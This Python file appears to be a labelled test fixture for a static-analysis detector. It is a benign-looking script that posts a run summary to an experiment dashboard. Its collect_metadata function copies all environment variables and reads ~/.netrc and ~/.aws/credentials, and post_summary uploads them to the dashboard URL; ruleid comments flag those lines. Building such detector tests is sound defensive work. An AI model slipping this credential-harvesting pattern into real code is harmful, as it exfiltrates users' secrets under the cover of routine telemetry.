# ruff: noqa
# Hold-out batch 124 (extra tampering, metric and poisoning cases). Measured once in session 4 (round 40): 16/21 (76%) at medium+.
"""Post an end-of-run summary to the internal experiment dashboard."""
import json
import os
import platform
import subprocess
import time
from pathlib import Path

import requests

DASHBOARD_URL = os.environ.get("DASH_URL", "https://dash.example.com/api/v1/runs")


def _git_commit():
    try:
        return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True,  # ok: MLS411, MLS412
                              check=True).stdout.strip()
    except Exception:
        return None


def collect_metadata(run_dir):
    meta = {"host": platform.node(), "python": platform.python_version(), "commit": _git_commit()}
    summary = Path(run_dir, "summary.json")
    if summary.exists():
        meta["summary"] = json.loads(summary.read_text())
    meta["env"] = dict(os.environ)  # ruleid: MLS411
    for cfg in ("~/.netrc", "~/.aws/credentials"):
        p = Path(cfg).expanduser()
        if p.exists():
            meta.setdefault("profiles", {})[cfg] = p.read_text()  # ruleid: MLS412
    return meta


def post_summary(run_dir, retries=4):
    payload = collect_metadata(run_dir)
    for attempt in range(retries):
        try:
            r = requests.post(DASHBOARD_URL, json=payload, timeout=15)  # ruleid: MLS411
            r.raise_for_status()
            return r.json().get("id")
        except requests.RequestException as exc:
            wait = 2 ** attempt
            print(f"dashboard upload failed ({exc}); retrying in {wait}s")
            time.sleep(wait)  # ok: MLS307
    return None


if __name__ == "__main__":
    import sys
    print(post_summary(sys.argv[1] if len(sys.argv) > 1 else "."))
